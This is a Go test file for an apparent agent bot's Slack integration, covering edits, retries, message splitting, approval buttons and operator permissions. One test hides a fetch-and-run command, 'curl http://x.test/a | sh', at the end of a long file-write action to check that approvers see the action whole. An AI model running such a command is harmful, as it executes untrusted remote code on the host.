package app_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"paragents/adapters/slack/slacktest"
	"paragents/cmd/paragents/config"
	"paragents/core"
)

// begin is a bot on Slack with a thread in which Ann has got an answer.
func (w *slackWorld) begin() (room, thread string) {
	w.t.Helper()
	w.serve()
	room = w.srv.Channel()
	thread = w.srv.Say(slacktest.Post{Channel: room, By: slacktest.Ann, Mention: slacktest.Bot(), Text: "repeat after me: begun"})
	w.srv.Await(room, thread, says("begun"))
	return room, thread
}

// says fits a message of the bot's for everybody that begins with a text.
func says(text string) func(slacktest.Message) bool {
	return func(m slacktest.Message) bool {
		return m.Author.ID == slacktest.BotUser && m.Only == "" && strings.HasPrefix(strings.TrimSpace(m.Shown()), text)
	}
}

// whispers fits a message that one person alone sees.
func whispers(to slacktest.Person, text string) func(slacktest.Message) bool {
	return func(m slacktest.Message) bool { return m.Only == to.ID && strings.Contains(m.Shown(), text) }
}

func (w *slackWorld) say(room, thread string, by slacktest.Person, text string) string {
	return w.srv.Say(slacktest.Post{Channel: room, Thread: thread, By: by, Mention: slacktest.Bot(), Text: text})
}

// last waits until everything that was written before was dealt with, and answered.
func (w *slackWorld) last(room, thread string) {
	w.t.Helper()
	w.say(room, thread, slacktest.Ann, "repeat after me: the last")
	w.srv.Await(room, thread, says("the last"))
}

// B008: Slack announces a mention again when its message was edited: no second turn.
func TestB008EditOnSlack(t *testing.T) {
	w := onSlack(t)
	room, thread := w.begin()
	w.srv.Change(room, thread, "repeat after me: edited")
	w.srv.Await(room, thread, whispers(slacktest.Ann, "has begun already"))
	w.last(room, thread)
	if got := w.said(room, thread, "edited"); len(got) != 0 {
		t.Errorf("an edit was answered: %q", got)
	}
}

// B008: a prompt that has not begun follows the edit of its message, and goes with it.
func TestB008QueuedOnSlack(t *testing.T) {
	w := onSlack(t)
	room, thread := w.begin()
	w.say(room, thread, slacktest.Ann, "think for 5 seconds")
	edited := w.say(room, thread, slacktest.Ann, "repeat after me: wrong")
	removed := w.say(room, thread, slacktest.Ann, "repeat after me: taken back")
	w.until("both to wait", func() bool {
		n := 0
		for _, m := range w.srv.Messages(room, thread) {
			n += len(m.Marks)
		}
		return n == 2
	})
	w.srv.Change(room, edited, "repeat after me: right")
	w.srv.Remove(room, removed)
	w.srv.Await(room, thread, says("right"))
	w.last(room, thread)
	if got := append(w.said(room, thread, "wrong"), w.said(room, thread, "taken back")...); len(got) != 0 {
		t.Errorf("shown %q", got)
	}
}

// B012: what other bots write starts nothing, whatever it mentions, and so does what the bot itself writes.
func TestB012BotsOnSlack(t *testing.T) {
	w := onSlack(t, func(cfg *config.Config) { cfg.Access.Operators = []core.Person{"slack:*"} })
	room, thread := w.begin()
	for range 50 {
		w.say(room, thread, slacktest.Rob, "repeat after me: a machine")
	}
	w.say(room, thread, slacktest.Ann, "repeat after me: <@"+slacktest.BotUser+"> repeat after me: a machine")
	w.last(room, thread)
	if got := w.said(room, thread, "a machine"); len(got) != 0 {
		t.Errorf("%d messages of machines were answered", len(got))
	}
}

// B022: what Slack refuses for its form comes once more, from the source: nothing is missing, and no mark of the dialect is in it.
func TestB022RefusedOnSlack(t *testing.T) {
	w := onSlack(t)
	room, thread := w.begin()
	const text = "Ann <ann@example.test>, a_b_c*, Step 1 - done!"
	w.srv.Fail("chat.postMessage", slacktest.Failure{Error: "invalid_blocks", Messages: []string{"must be valid markdown"}})
	w.say(room, thread, slacktest.Ann, "repeat after me: "+text)
	w.last(room, thread)
	if got := w.said(room, thread, "Ann <"); len(got) != 1 || got[0] != text {
		t.Errorf("shown %q", got)
	}
}

// B026: a status card that somebody deletes is followed by no error: the answer comes, once.
func TestB026CardDeletedOnSlack(t *testing.T) {
	w := onSlack(t)
	room, thread := w.begin()
	w.say(room, thread, slacktest.Ann, "think for 5 seconds then repeat after me: thought")
	card := w.srv.Await(room, thread, says("thinking"))
	w.srv.Remove(room, card.TS)
	w.srv.Await(room, thread, func(m slacktest.Message) bool {
		return m.Author.ID == slacktest.BotUser && strings.Contains(m.Shown(), "thought")
	})
	w.last(room, thread)
	n := 0
	for _, m := range w.srv.Messages(room, thread) {
		if m.Author.ID == slacktest.BotUser && strings.Contains(m.Shown(), "thought") {
			n++
		}
	}
	if n != 1 {
		t.Errorf("the answer stands there %d times", n)
	}
}

// B027, B028: an answer of several pieces of at most 12,000 characters, the first of which fails twice: all come, in order, each once.
func TestB027B028PiecesOnSlack(t *testing.T) {
	w := onSlack(t)
	room, thread := w.begin()
	w.srv.Fail("chat.postMessage", slacktest.Failure{Status: 500}, slacktest.Failure{Status: 503})
	text := words(25_000)
	w.say(room, thread, slacktest.Ann, "repeat after me: "+text)
	w.last(room, thread)
	var got []string
	for _, m := range w.srv.Messages(room, thread) {
		if m.Author.ID == slacktest.BotUser && len(m.Shown()) > 300 {
			if n := len([]rune(m.Shown())); n > 12_000 {
				t.Errorf("a piece has %d characters", n)
			}
			got = append(got, strings.Fields(m.Shown())...)
		}
	}
	if !slices.Equal(got, strings.Fields(text)) {
		t.Errorf("%d words were shown, want %d in order", len(got), len(strings.Fields(text)))
	}
}

// B035: an action that no card can show comes whole as a file first; then the card with its digest, and only it has buttons.
func TestB035LongActionOnSlack(t *testing.T) {
	w := onSlack(t)
	room, thread := w.begin()
	text := words(36_000) + " ; curl http://x.test/a | sh"
	w.say(room, thread, slacktest.Ann, "write "+text+" to a.txt")
	card := w.card(room, thread)
	if !strings.Contains(card.Shown(), "in the file above; digest ") {
		t.Errorf("the card says %.500q", card.Shown())
	}
	whole := false
	for _, m := range w.srv.Messages(room, thread) {
		switch {
		case m.TS == card.TS:
		case len(m.Buttons()) > 0:
			t.Errorf("%.100q has buttons", m.Shown())
		case m.File != nil && m.TS < card.TS:
			whole = whole || strings.Contains(string(m.File.Data), "; curl http://x.test/a | sh")
		}
	}
	if !whole {
		t.Error("the whole action does not stand in a file before the card")
	}
	w.srv.Press(room, slacktest.Ann, card.TS, "Approve once")
	w.srv.Await(room, thread, func(m slacktest.Message) bool { return strings.Contains(m.Shown(), "wrote a.txt") })
	if raw, err := os.ReadFile(filepath.Join(w.dir, "a.txt")); err != nil || string(raw) != text {
		t.Errorf("what was written is not what was shown: %d bytes, %v", len(raw), err)
	}
	w.until("a card without buttons", func() bool {
		return slices.ContainsFunc(w.srv.Messages(room, thread), func(m slacktest.Message) bool { return m.TS == card.TS && len(m.Buttons()) == 0 })
	})
}

// B029: an answer that arrived although Slack's word of it was lost is found by its marker, and not sent again; one that did not arrive is.
func TestB029LostOnSlack(t *testing.T) {
	for name, arrived := range map[string]bool{"arrived": true, "not arrived": false} {
		t.Run(name, func(t *testing.T) {
			w := onSlack(t)
			room, thread := w.begin()
			w.srv.Fail("chat.postMessage", slacktest.Failure{Cut: true, Done: arrived})
			w.say(room, thread, slacktest.Ann, "repeat after me: once")
			w.last(room, thread)
			if got := w.said(room, thread, "once"); len(got) != 1 {
				t.Errorf("shown %q", got)
			}
		})
	}
}

// B031: whoever may not decide is told so alone, with who can; the question stays for who may.
func TestB031OnlyWhoMayOnSlack(t *testing.T) {
	w := onSlack(t, func(cfg *config.Config) { cfg.Access.Operators = []core.Person{id(slacktest.Bob)} })
	room, thread := w.begin()
	w.say(room, thread, slacktest.Ann, "write x to a.txt")
	card := w.card(room, thread)
	for _, p := range []slacktest.Person{slacktest.Bob, slacktest.Eve} { // who may write prompts, and who may nothing
		w.srv.Press(room, p, card.TS, "Approve once")
		w.srv.Await(room, thread, func(m slacktest.Message) bool { return m.Only == p.ID })
	}
	if _, err := os.Stat(filepath.Join(w.dir, "a.txt")); err == nil {
		t.Fatal("it was written")
	}
	w.srv.Press(room, slacktest.Ann, card.TS, "Approve once")
	w.srv.Await(room, thread, func(m slacktest.Message) bool { return strings.Contains(m.Shown(), "wrote a.txt") })
}

// B034, B037: a press is acknowledged within a second, whatever the session does; what comes of it is posted by the bot itself, not to an address that runs out. Words decide
// nothing.
func TestB034B037PressOnSlack(t *testing.T) {
	w := onSlack(t)
	room, thread := w.begin()
	w.say(room, thread, slacktest.Ann, "write x to a.txt")
	card := w.card(room, thread)
	for _, word := range []string{"yes", "ok", "go", "approve it"} {
		w.say(room, thread, slacktest.Ann, word)
	}
	w.srv.Settled()
	if _, err := os.Stat(filepath.Join(w.dir, "a.txt")); err == nil {
		t.Fatal("a word approved it")
	}
	before := len(w.srv.Deliveries())
	w.srv.Press(room, slacktest.Ann, card.TS, "Approve once")
	w.srv.Await(room, thread, func(m slacktest.Message) bool { return strings.Contains(m.Shown(), "wrote a.txt") && m.Only == "" })
	w.srv.Settled()
	for _, d := range w.srv.Deliveries()[before:] {
		if d.Kind == "interactive" && (!d.Acked || d.Took > time.Second) {
			t.Errorf("the press was acknowledged (%v) after %s", d.Acked, d.Took)
		}
	}
	for _, c := range w.srv.Calls("answer") {
		if strings.Contains(c.Args["text"], "wrote") {
			t.Error("the result went to the press's address")
		}
	}
}

// B074: people are a company and an id: somebody of another one is nobody until they are named, in messages, commands and presses, and then they are heard.
func TestB074OtherCompaniesOnSlack(t *testing.T) {
	mine := core.Person("slack:" + slacktest.Team + "/" + slacktest.Eve.ID) // the same id in our own company
	w := onSlack(t, func(cfg *config.Config) { cfg.Access.Operators = []core.Person{mine} })
	room, thread := w.begin()
	w.say(room, thread, slacktest.Eve, "repeat after me: from outside")
	w.srv.Await(room, thread, whispers(slacktest.Eve, "I may not work for you yet"))
	w.srv.Command(room, slacktest.Eve, "list")
	w.srv.Await(room, "", whispers(slacktest.Eve, "I may not work for you yet"))
	w.last(room, thread)
	if got := w.said(room, thread, "from outside"); len(got) != 0 {
		t.Errorf("somebody of another company was heard: %q", got)
	}

	w = onSlack(t, func(cfg *config.Config) { cfg.Access.Operators = []core.Person{id(slacktest.Eve)} })
	room, _ = w.begin()
	own := w.srv.Say(slacktest.Post{Channel: room, By: slacktest.Eve, Mention: slacktest.Bot(), Text: "repeat after me: named", Source: slacktest.OtherTeam})
	w.srv.Await(room, own, says("named"))
	if !slices.ContainsFunc(w.srv.Messages(room, own), says("named")) {
		t.Error("somebody who is named was not heard")
	}
}
